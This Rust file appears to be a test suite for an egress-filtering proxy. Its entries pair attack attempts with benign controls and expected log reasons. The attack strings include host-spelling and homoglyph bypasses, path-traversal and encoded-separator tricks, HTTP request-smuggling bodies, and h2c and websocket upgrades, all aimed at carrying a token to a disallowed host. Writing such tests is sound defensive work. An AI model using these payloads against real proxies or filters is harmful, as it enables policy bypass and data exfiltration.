//! Plain HTTP, request by request.

use egress::defence::Defence::*;

use crate::attempt::{Attempt, attempt};
use crate::attempts::{BANNER, JUDGED, PLAIN};

/// All of them.
pub const ATTEMPTS: &[Attempt] = &[
    attempt("host-of-another-name", "demand(http('open.example.org', get('other.example.net', '/', T)), b'world')", PLAIN)
    .against(&[Host])
    .recorded("open.example.org", 80, "host-mismatch"),
    attempt(
        "host-spellings",
        "for host in ('open.example.org.evil.example', 'open.example.org:81', 'user@open.example.org', 'open.example.org\\0', 'open%2eexample.org', '[open.example.org]', '3325256705', '0306.063.0144.1', 'bücher.example', 'xn--bcher-kva.example', '\u{43e}pen.example.org', 'open.example.org\u{3002}', ''):
    got = http('open.example.org', get(host, '/', T))
    if b'world says' in got: break
else: raise OSError('refused in every spelling')",
        "for host in ('OPEN.example.ORG', 'open.example.org.', 'open.example.org:80'): demand(http('open.example.org', get(host, '/', T)), b'world says')",
    )
    .against(&[Host])
    .recorded("open.example.org", 80, "host-mismatch"),
    attempt(
        "absolute-form-of-another-name",
        "demand(http('open.example.org', get('open.example.org', 'http://other.example.net/', T)), b'world says')",
        "demand(http('open.example.org', get('open.example.org', 'http://open.example.org/', T)), b'world says')",
    )
    .against(&[Host])
    .recorded("open.example.org", 80, "malformed"),
    attempt("two-hosts", "demand(http('open.example.org', get('open.example.org', '/', T, 'Host: other.example.net\\r\\n')), b'world says')", PLAIN)
    .against(&[Forms, Host])
    .recorded("open.example.org", 80, "malformed"),
    attempt(
        "second-request-to-another-host",
        "got = http('open.example.org', get('open.example.org', '/') + get('other.example.net', '/', T)); demand(str(got.count(b'world says')).encode(), b'2')",
        "demand(http('open.example.org', get('open.example.org', '/') + get('open.example.org', '/2', T)), b'/2')",
    )
    .against(&[EveryRequest])
    .recorded("open.example.org", 80, "host-mismatch"),
    attempt("method-not-listed", "demand(http('api.example.org', get('api.example.org', '/v1/x', T, 'Content-Length: 0\\r\\n', 'POST')), b'world')", JUDGED)
    .against(&[Method])
    .recorded("api.example.org", 80, "method"),
    attempt("path-not-listed", "demand(http('api.example.org', get('api.example.org', '/v2/x', T)), b'world')", JUDGED)
    .against(&[Path])
    .recorded("api.example.org", 80, "path"),
    attempt(
        "path-tricks",
        "for path in ('/v1/../v2/x', '/v1/%2e%2e/v2/x', '/v1/%2E./v2/x', '/v1//../../v2', '/v1/..;/v2', '/v1\\\\..\\\\v2', '/v1/%252e%252e/v2', '/v1/%25252e%25252e/v2', '/v1/x\\0', '//v1/x', '/V1/x', '/v1/x\\t', '/v1/..', '/v1/%00'):
    if b'world says' in http('api.example.org', get('api.example.org', path, T)): break
else: raise OSError('refused in every form')",
        "for path in ('/v1/a/../x', '/v1/%7ex', '/v1/./x?q=/../v2'): demand(http('api.example.org', get('api.example.org', path, T)), b'world says')",
    )
    .against(&[CanonicalPath])
    .recorded("api.example.org", 80, "malformed"),
    attempt(
        "encoded-separators",
        "for path in ('/v1/a%2fb', '/v1/..%2fv2', '/v1/a%5Cb'):
    if b'world says' in http('api.example.org', get('api.example.org', path, T)): break
else: raise OSError('refused in every form')",
        JUDGED,
    )
    .against(&[EncodedSeparators])
    .recorded("api.example.org", 80, "encoded-separator"),
    attempt(
        "header-missing",
        "demand(http('headers.example.org', get('headers.example.org', '/', T)), b'world')",
        "demand(http('headers.example.org', get('headers.example.org', '/', T, 'X-Team: acme\\r\\n')), b'world says')",
    )
    .against(&[Header])
    .recorded("headers.example.org", 80, "header"),
    attempt(
        "a-request-that-comes-back",
        "mark = http('open.example.org', get('open.example.org', '/marked')).rsplit(b'mark=', 1)[1].strip().decode()
demand(http('open.example.org', get('open.example.org', '/', T, f'Sbx-Hop: {mark}\\r\\n')), b'world says')",
        "demand(http('open.example.org', get('open.example.org', '/', T, 'Sbx-Hop: other\\r\\n')), b'world says')",
    )
    .against(&[Loop])
    .recorded("open.example.org", 80, "loop"),
    attempt(
        "smuggling",
        "inner = get('other.example.net', '/', T).decode()
forms = [f'Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n{inner}', f'Content-Length: 0\\r\\nContent-Length: {len(inner)}\\r\\n\\r\\n{inner}',
  f'Transfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\n{inner}', f'Transfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\n{inner}', f'X: y\\n\\n{inner}', f'X: a\\r\\n b\\r\\n\\r\\n{inner}',
  f'Transfer-Encoding: chunked\\r\\nTransfer-Encoding: identity\\r\\n\\r\\n0\\r\\n\\r\\n{inner}']
for form in forms: http('open.example.org', ('POST / HTTP/1.1\\r\\nHost: open.example.org\\r\\n' + form).encode())
raise OSError('what counts is what arrived')",
        "demand(http('open.example.org', b'POST / HTTP/1.1\\r\\nHost: open.example.org\\r\\nX-Token: ' + T.encode() + b'\\r\\nContent-Length: 2\\r\\n\\r\\nhi'), b'world says')",
    )
    .against(&[Forms, Host])
    .recorded("open.example.org", 80, "malformed"),
    attempt(
        "h2c",
        "got = http('open.example.org', get('open.example.org', '/', T, 'Connection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQAAP__\\r\\n')); demand(got, b' 101 ')",
        PLAIN,
    )
    .against(&[H2c, Upgrade])
    .recorded("open.example.org", 80, "upgrade-h2c"),
    attempt("h2-with-prior-knowledge", "demand(http('open.example.org', b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + T.encode()), b'world')", PLAIN)
    .against(&[Speech])
    .recorded("open.example.org", 80, "http-version"),
    attempt(
        "websocket",
        "demand(http('open.example.org', get('open.example.org', '/', T, 'Connection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\\r\\nSec-WebSocket-Version: 13\\r\\n')), b' 101 ')",
        "demand(http('a.wild.example.org', get('a.wild.example.org', '/', T, 'Connection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\\r\\nSec-WebSocket-Version: 13\\r\\n')), b' 101 ')",
    )
    .against(&[Upgrade])
    .recorded("open.example.org", 80, "upgrade"),
    attempt(
        "redirect",
        "import urllib.request
demand(urllib.request.urlopen('http://open.example.org/redirect', timeout=2).read(), b'landed')",
        PLAIN,
    )
    .against(&[Names, Rules])
    .recorded_once_a_minute("other.example.net", 53, "no-rule"),
    attempt("server-speaks-first", "s = dial('other.example.net', 9999); s.recv(99); say(s, (T + '\\n').encode())", BANNER)
    .against(&[Names, Rules])
    .recorded_once_a_minute("other.example.net", 53, "no-rule"),
];
